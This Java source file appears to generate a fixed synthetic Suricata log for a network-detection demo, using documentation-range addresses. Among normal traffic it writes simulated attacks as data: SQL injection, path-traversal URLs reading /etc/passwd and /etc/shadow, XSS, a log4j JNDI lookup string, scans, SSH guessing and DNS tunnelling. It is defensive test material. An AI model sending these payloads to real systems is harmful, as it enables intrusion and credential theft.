package com.hookprobe.qsecbit.detection;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/**
 * Writes the recording that the demo plays: two minutes of a small site as Suricata would log them, in the order of the
 * log. Written for this project; all addresses outside are from the documentation ranges of RFC 5737, and the names from
 * RFC 2606. The same lines come out every time.
 *
 * <p>Inside, 10.20.0.0/16: gateway and resolver 10.20.0.1, web server 10.20.0.5, SSH server 10.20.0.22, clients
 * 10.20.1.10 to 10.20.1.15, and 10.20.1.66, which has caught something. Outside: the attackers of {@link #ATTACKERS} and
 * the honest servers 192.0.2.80 to 192.0.2.84.
 */
final class DemoRecording {
    static final String SCANNER = "203.0.113.66";
    static final String GUESSER = "198.51.100.23";
    static final String WEB_ATTACKER = "203.0.113.99";
    static final String EXPLOITER = "192.0.2.44";
    static final String BAD_NAME = "198.51.100.77";
    static final String KNOCKER = "203.0.113.150";
    static final List<String> ATTACKERS = List.of(SCANNER, GUESSER, WEB_ATTACKER, EXPLOITER, BAD_NAME, KNOCKER);
    static final String TUNNEL_CLIENT = "10.20.1.66";

    private static final String RESOLVER = "10.20.0.1";
    private static final String WEB_SERVER = "10.20.0.5";
    private static final String SSH_SERVER = "10.20.0.22";
    private static final Instant START = Instant.parse("2026-01-15T09:00:00Z");
    private static final DateTimeFormatter TIME =
            DateTimeFormatter.ofPattern("uuuu-MM-dd'T'HH:mm:ss.SSSSSSxx", Locale.ROOT);
    private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    private static final String BASE32 = "abcdefghijklmnopqrstuvwxyz234567";

    private final SplittableRandom random = new SplittableRandom(20260115);
    private final List<Line> lines = new ArrayList<>();
    private long nextFlowId = 1_000_000_007L;

    private record Line(double second, int number, String text) {}

    private DemoRecording() {}

    /** The lines of the recording, each with its line feed. */
    static String text() {
        DemoRecording recording = new DemoRecording();
        recording.browsing();
        recording.visitors();
        recording.scan();
        recording.guessing();
        recording.webAttacks();
        recording.tunnel();
        recording.alerts();
        recording.lines.sort(Comparator.comparingDouble(Line::second).thenComparingInt(Line::number));
        StringBuilder text = new StringBuilder();
        recording.lines.forEach(line -> text.append(line.text()).append('\n'));
        return text.toString();
    }

    private void browsing() {
        String[] names = {
            "www.example.org", "news.example.net", "mail.example.com", "cdn.example.net", "time.example.org"
        };
        for (int i = 0; i < 24; i++) {
            double at = 1 + i * 4.9 + random.nextDouble();
            String client = "10.20.1." + (10 + i % 6);
            int server = i % names.length;
            String dns = common("dns", at, client, 32_768 + random.nextInt(28_000), RESOLVER, 53, "UDP");
            String rr = ",\"id\":" + (100 + i) + ",\"rrname\":\"" + names[server] + "\",\"rrtype\":\"A\"";
            add(at, dns + ",\"dns\":{\"type\":\"query\"" + rr + ",\"tx_id\":0}}");
            add(
                    at + 0.02,
                    at(dns, at + 0.02) + ",\"dns\":{\"version\":2,\"type\":\"answer\"" + rr
                            + ",\"rcode\":\"NOERROR\",\"grouped\":{\"A\":[\"192.0.2." + (80 + server) + "\"]}}}");
            int port = 32_768 + random.nextInt(28_000);
            String tls = common("tls", at + 0.1, client, port, "192.0.2." + (80 + server), 443, "TCP");
            add(at + 0.1, tls + ",\"tls\":{\"sni\":\"" + names[server] + "\",\"version\":\"TLS 1.3\"}}");
            flow(
                    at + 0.05,
                    3 + random.nextInt(8),
                    client,
                    port,
                    "192.0.2." + (80 + server),
                    443,
                    "tls",
                    18,
                    24,
                    3_100,
                    21_000,
                    "1b",
                    "1b");
        }
    }

    private void visitors() {
        String[] pages = {
            "/", "/index.html", "/img/logo.png?v=3", "/products?sort=price&page=2", "/search?q=red+shoes", "/contact"
        };
        for (int i = 0; i < 20; i++) {
            double at = 2 + i * 5.7 + random.nextDouble();
            String visitor = "192.0.2." + (120 + i % 7);
            int port = 32_768 + random.nextInt(28_000);
            http(at, visitor, port, "GET", pages[i % pages.length], 200, BROWSER);
            flow(at - 0.1, 2, visitor, port, WEB_SERVER, 80, "http", 8, 9, 1_200, 9_000, "1b", "1b");
        }
    }

    private void scan() {
        int[] ports = {
            21, 23, 25, 53, 79, 81, 88, 110, 111, 113, 135, 139, 143, 179, 389, 443, 445, 465, 513, 514, 548, 587, 631,
            646, 873, 990, 993, 995, 1025, 1433, 1720, 1723, 2000, 2049, 3128, 3306, 3389, 5000, 5432, 5900, 6379, 8008,
            8081, 8443
        };
        for (int i = 0; i < ports.length; i++) {
            flow(12 + i * 0.18, 0.2, SCANNER, 40_000 + i, WEB_SERVER, ports[i], "failed", 1, 1, 60, 54, "02", "14");
        }
    }

    private void guessing() {
        for (int i = 0; i < 34; i++) {
            double at = 25 + i * 1.6 + 0.2 * random.nextDouble();
            int port = 42_000 + i;
            String ssh = common("ssh", at + 0.1, GUESSER, port, SSH_SERVER, 22, "TCP");
            add(
                    at + 0.1,
                    ssh + ",\"ssh\":{\"client\":{\"proto_version\":\"2.0\",\"software_version\":\"libssh2_1.10.0\"},"
                            + "\"server\":{\"proto_version\":\"2.0\",\"software_version\":\"OpenSSH_9.6\"}}}");
            flow(at, 1.4, GUESSER, port, SSH_SERVER, 22, "ssh", 16, 15, 2_300, 2_900, "1b", "1b");
        }
    }

    private void webAttacks() {
        String[] urls = {
            "/item?id=1%27%20OR%20%271%27=%271",
            "/item?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--",
            "/item?id=1%27%20AND%20SLEEP(5)%23",
            "/item?id=1%2520union%2520select%25201,2",
            "/download?file=../../../../etc/passwd",
            "/download?file=..%252f..%252f..%252fetc%252fshadow",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
        };
        for (int i = 0; i < 24; i++) {
            double at = 48 + i * 0.9;
            int port = 50_000 + i;
            http(at, WEB_ATTACKER, port, "GET", urls[i % urls.length], i % 3 == 0 ? 500 : 404, "Mozilla/5.0");
            flow(at - 0.05, 0.4, WEB_ATTACKER, port, WEB_SERVER, 80, "http", 6, 5, 900, 1_100, "1b", "1b");
        }
        alert(
                48.5,
                WEB_ATTACKER,
                50_001,
                WEB_SERVER,
                80,
                2010963,
                "ET WEB_SERVER SELECT USER SQL Injection Attempt in URI",
                "Web Application Attack",
                1);
    }

    private void tunnel() {
        for (int i = 0; i < 40; i++) {
            double at = 60 + i * 1.1;
            String dns = common("dns", at, TUNNEL_CLIENT, 33_000 + i, RESOLVER, 53, "UDP");
            add(
                    at,
                    dns + ",\"dns\":{\"version\":3,\"type\":\"request\",\"tx_id\":0,\"id\":" + (7000 + i)
                            + ",\"queries\":[{\"rrname\":\"" + word(48) + "." + word(40)
                            + ".t.example.com\",\"rrtype\":\"TXT\"}]}}");
        }
    }

    private void alerts() {
        for (int i = 0; i < 4; i++) {
            alert(
                    70 + i * 3,
                    EXPLOITER,
                    47_000 + i,
                    WEB_SERVER,
                    80,
                    2034647,
                    "ET EXPLOIT Apache log4j RCE Attempt (http ldap)",
                    "Attempted Administrator Privilege Gain",
                    1);
            http(70 + i * 3, EXPLOITER, 47_000 + i, "GET", "/?x=${jndi:ldap://192.0.2.44/a}", 400, "Mozilla/5.0");
        }
        for (int i = 0; i < 6; i++) {
            alert(
                    30 + i * 9,
                    BAD_NAME,
                    48_000 + i,
                    WEB_SERVER,
                    8080 + i,
                    2403388,
                    "ET CINS Active Threat Intelligence Poor Reputation IP group 89",
                    "Misc Attack",
                    2);
            alert(
                    33 + i * 9,
                    KNOCKER,
                    49_000 + i,
                    SSH_SERVER,
                    3306,
                    2010937,
                    "ET SCAN Suspicious inbound to mySQL port 3306",
                    "Potentially Bad Traffic",
                    3);
            flow(33 + i * 9, 0.1, KNOCKER, 49_000 + i, SSH_SERVER, 3306, "failed", 1, 1, 60, 54, "02", "14");
        }
        for (int i = 0; i < 5; i++) {
            alert(
                    10 + i * 20,
                    "192.0.2.121",
                    36_000,
                    WEB_SERVER,
                    80,
                    2210045,
                    "SURICATA STREAM Packet with invalid ack",
                    "Generic Protocol Command Decode",
                    3);
        }
    }

    private void alert(
            double at,
            String from,
            int port,
            String to,
            int toPort,
            int sid,
            String signature,
            String category,
            int severity) {
        add(
                at,
                common("alert", at, from, port, to, toPort, "TCP")
                        + ",\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":" + sid
                        + ",\"rev\":1,\"signature\":\"" + signature
                        + "\",\"category\":\"" + category + "\",\"severity\":" + severity
                        + "},\"direction\":\"to_server\"}");
    }

    private void http(double at, String from, int port, String method, String url, int status, String agent) {
        add(
                at,
                common("http", at, from, port, WEB_SERVER, 80, "TCP")
                        + ",\"http\":{\"hostname\":\"shop.example.org\",\"url\":\""
                        + url + "\",\"http_user_agent\":\"" + agent + "\",\"http_method\":\"" + method
                        + "\",\"protocol\":\"HTTP/1.1\",\"status\":" + status + ",\"length\":1024}}");
    }

    private void flow(
            double start,
            double seconds,
            String from,
            int port,
            String to,
            int toPort,
            String app,
            int packetsTs,
            int packetsTc,
            int bytesTs,
            int bytesTc,
            String flagsTs,
            String flagsTc) {
        double logged = start + seconds + 0.5;
        add(
                logged,
                common("flow", logged, from, port, to, toPort, "TCP") + ",\"app_proto\":\"" + app
                        + "\",\"flow\":{\"pkts_toserver\":" + packetsTs + ",\"pkts_toclient\":" + packetsTc
                        + ",\"bytes_toserver\":" + bytesTs + ",\"bytes_toclient\":" + bytesTc + ",\"start\":\""
                        + time(start)
                        + "\",\"end\":\"" + time(start + seconds) + "\",\"age\":" + (int) seconds
                        + ",\"state\":\"closed\",\"reason\":\"timeout\",\"alerted\":false},\"tcp\":{\"tcp_flags_ts\":\""
                        + flagsTs
                        + "\",\"tcp_flags_tc\":\"" + flagsTc + "\",\"state\":\"closed\"}}");
    }

    private String common(String type, double at, String from, int port, String to, int toPort, String proto) {
        return "{\"timestamp\":\"" + time(at) + "\",\"flow_id\":" + nextFlowId++
                + ",\"in_iface\":\"eth0\",\"event_type\":\""
                + type + "\",\"src_ip\":\"" + from + "\",\"src_port\":" + port + ",\"dest_ip\":\"" + to
                + "\",\"dest_port\":" + toPort + ",\"proto\":\"" + proto + "\"";
    }

    private static String at(String common, double second) {
        int end = common.indexOf("\",\"flow_id\"");
        return "{\"timestamp\":\"" + time(second) + common.substring(end);
    }

    private void add(double second, String text) {
        lines.add(new Line(second, lines.size(), text));
    }

    private static String time(double second) {
        return TIME.format(START.plusNanos(Math.round(second * 1e6) * 1000).atOffset(ZoneOffset.UTC));
    }

    private String word(int length) {
        StringBuilder word = new StringBuilder();
        for (int i = 0; i < length; i++) {
            word.append(BASE32.charAt(random.nextInt(BASE32.length())));
        }
        return word.toString();
    }
}
